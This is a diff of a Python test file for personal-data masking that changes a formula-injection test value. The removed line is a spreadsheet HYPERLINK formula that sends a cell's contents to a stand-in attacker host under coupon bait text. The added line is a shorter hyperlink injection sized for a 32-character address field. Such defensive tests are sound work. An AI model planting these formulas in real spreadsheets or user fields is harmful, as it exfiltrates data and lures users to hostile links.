@@ -11,7 +11,7 @@ from apps.core.masking import MaskPersonalData, mask_id_number, mask_text
 from tests.accounts.factories import AddressFactory, UserFactory
 from tests.shop.factories import make_order
 
-FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"点我领券")'
+FORMULA = '=HYPERLINK("http://e.cn","领券")'  # fits the address name's 32 characters
 
 
 @pytest.fixture
